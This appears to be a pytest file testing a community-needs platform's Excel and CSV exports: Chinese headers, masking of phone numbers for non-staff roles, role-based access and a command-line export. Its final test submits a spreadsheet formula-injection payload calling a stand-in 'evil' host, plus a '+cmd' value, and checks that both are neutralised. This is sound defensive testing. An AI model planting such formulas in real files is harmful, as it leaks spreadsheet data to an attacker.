"""Exports with Chinese headers (web and command line), contacts masked but for staff, no
spreadsheet formulas."""

import io

import pandas as pd
import pytest

from tests.factories import HOTLINE_NEED


@pytest.fixture()
def submit_offline(submit):
    return submit("staff", **HOTLINE_NEED)


@pytest.mark.parametrize("kind, header", [("needs", "标题"), ("projects", "项目名称"), ("responses", "题目"),
                                          ("evaluations", "满意率（%）")])
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_exports_have_chinese_headers(client_as, opened, kind, header, fmt):
    response = client_as("staff").get(f"/exports/{kind}.{fmt}")
    assert response.status_code == 200
    data = (pd.read_excel(io.BytesIO(response.data)) if fmt == "xlsx"
            else pd.read_csv(io.BytesIO(response.data), encoding="utf-8-sig"))
    assert header in data.columns


def test_needs_export_masks_contacts_except_for_staff(client_as, db, submit_offline):
    staff = pd.read_csv(io.BytesIO(client_as("staff").get("/exports/needs.csv").data), encoding="utf-8-sig",
                        dtype=str)
    committee = pd.read_csv(io.BytesIO(client_as("street_committee").get("/exports/needs.csv").data),
                            encoding="utf-8-sig", dtype=str)
    assert "13900001111" in staff["联系电话"].tolist()
    assert "13900001111" not in committee["联系电话"].tolist() and "139****1111" in committee["联系电话"].tolist()


@pytest.mark.parametrize("role", ["resident", "worker", "unit_rep", "council"])
def test_exports_are_not_for_everyone(client_as, role):
    assert client_as(role).get("/exports/needs.xlsx").status_code == 403


def test_cli_export(app, tmp_path, opened):
    path = tmp_path / "evaluations.xlsx"
    result = app.test_cli_runner().invoke(args=["export", "evaluations", "--format", "xlsx", "-o", str(path)])
    assert result.exit_code == 0, result.output
    assert "项目名称" in pd.read_excel(path).columns


def test_exports_do_not_carry_spreadsheet_formulas(client, client_as, api_token, db, places):
    client.post("/api/v1/needs", headers=api_token("resident"), json={
        "kind": "wish", "title": '=HYPERLINK("http://evil/?"&L2,"详情")', "description": "+cmd",
        "place_id": places["福山居民区"]})
    workbook = pd.read_excel(io.BytesIO(client_as("staff").get("/exports/needs.xlsx").data), dtype=str)
    assert workbook["标题"].iloc[0].startswith("'=HYPERLINK")
    assert workbook["描述"].iloc[0] == "'+cmd"
